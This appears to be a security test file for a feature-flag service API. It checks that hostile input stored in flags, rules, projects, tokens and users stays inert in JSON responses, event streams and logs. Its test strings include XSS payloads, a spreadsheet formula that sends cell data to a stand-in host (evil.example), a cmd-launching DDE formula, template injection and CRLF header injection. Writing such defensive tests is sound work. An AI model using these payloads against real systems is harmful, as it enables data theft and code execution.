/** What people write is data, wherever it is shown again: it is never a page, a formula, or a line of its own. */
import { beforeAll, describe, expect, it } from "vitest";
import { createHarness, FLAGS, field, type Harness } from "../testing/harness.ts";
import { endpoints } from "../webhooks/testing/endpoints.ts";

const PROJECT = "/api/v1/projects/default";
const PRODUCTION = `${PROJECT}/environments/production`;

const texts = [
  ["a script", "<script>alert(1)</script>"],
  ["an image that runs", '"><img src=x onerror=alert(1)>'],
  ["the end of a script", "</script><!--"],
  ["a formula", '=HYPERLINK("https://evil.example/?"&A1,"x")'],
  ["a formula in disguise", "@SUM(1+1)*cmd|' /C calc'!A0"],
  ["a template", "{{constructor.constructor('alert(1)')()}}"],
  ["line ends", "a\r\nset-cookie: sid=1\r\n\r\ndata: forged"],
  ["separators that JavaScript once took for line ends", "a\u2028b\u2029c"],
  ["a terminal's escapes", "\u001b[2J\u001b]0;owned\u0007"],
  ["text that runs the other way", "\u202Etxt.exe"],
] as const;

describe.each(texts)("%s in whatever people write", (_, text) => {
  let api: Harness;
  let hook: ReturnType<typeof endpoints>;
  let user: string;
  beforeAll(async () => {
    hook = endpoints();
    api = await createHarness({ outbound: hook.outbound });
    const make = async (what: string, body: object) => {
      const got = await api.ask(what, { body });
      // A field may be too narrow for it, or take no such character: it is refused then, and told where.
      expect([what, [200, 201, 422].includes(got.status), got.text]).toEqual([what, true, got.text]);
      return got;
    };
    await make(`POST ${FLAGS}`, { key: "a", description: text, owner: text, tags: [text], comment: text });
    await make(`POST ${FLAGS}`, { key: "b", type: "string", variants: [{ key: "x", value: text, description: text }] });
    await make(`PATCH ${FLAGS}/a/environments/production`, {
      rules: [{ name: text, when: { attribute: text, op: "in", values: [text] }, serve: { variant: "on" } }],
    });
    await make("POST /api/v1/projects", { key: "other", name: text });
    await make(`PATCH ${PRODUCTION}`, { name: text, comment: text });
    await make(`POST ${PROJECT}/segments`, { key: "s", included: [text], description: text });
    await make(`POST ${PRODUCTION}/freezes`, { key: "f", until: "2026-02-01T00:00:00Z", reason: text });
    await make("POST /api/v1/webhooks", { url: "https://hooks.example.com/", name: text, project: "default" });
    await make("POST /api/v1/tokens", { name: text, role: "viewer" });
    await make("POST /api/v1/keys", { project: "default", environment: "staging", kind: "client", name: text });
    user = String(
      field((await make("POST /api/v1/users", { name: text, email: "a@example.com", role: "viewer" })).body, "id"),
    );
  });

  it("A4, A12: is no page: every answer that holds it is JSON, and tells browsers to take it for nothing else", async () => {
    const reads = api.routes.filter(({ method, permission }) => method === "GET" && !permission.startsWith("sdk"));
    const paths = reads.map(({ path }) =>
      path
        .replace("{p}", "default")
        .replace("{e}", "production")
        .replace("{f}", "a")
        .replace("{s}", "s")
        .replace("users/{id}", `users/${user}`)
        .replaceAll(/\{\w+\}/g, "nothing"),
    );
    for (const path of [...paths, `${FLAGS}/${encodeURIComponent(text)}`, `/${encodeURIComponent(text)}`]) {
      const got = await api.ask(`GET ${path}`, { headers: { accept: "text/html" } });
      const type = got.headers.get("content-type");
      expect([path, got.status, got.headers.get("x-content-type-options")]).toEqual([path, got.status, "nosniff"]);
      expect(got.headers.get("content-security-policy")).toMatch(/default-src 'none'/);
      if (path === "/docs") expect(got.text).not.toContain(text);
      else expect(type).toMatch(/^(application\/(problem\+)?json|text\/plain)/);
      for (const [, value] of got.headers) expect(value).not.toContain("forged");
    }
  });

  it("A4, A23: is one value on one line, in the stream and to a webhook", async () => {
    const token = await api.makeKey("server", "production");
    const headers = { authorization: `Bearer ${token}`, accept: "text/event-stream" };
    const stream = await api.app.request("/sdk/v1/stream", { headers });
    await api.stream.drain(0);
    const events = (await stream.text()).split("\n");
    expect(events.filter((line) => line !== "" && !/^(id|event|data|retry): ?|^:/.test(line))).toEqual([]);
    for (const line of events.filter((one) => one.startsWith("data:"))) {
      expect(() => JSON.parse(line.slice("data:".length))).not.toThrow();
    }
    expect(events.join("\n")).toContain("snapshot");
  });

  it("A4: is one line of the log, if it is told there at all", () => {
    for (const line of api.lines) {
      expect(line.trimEnd()).not.toMatch(/[\n\r\u2028\u2029]/);
      expect(() => JSON.parse(line)).not.toThrow();
    }
  });
});
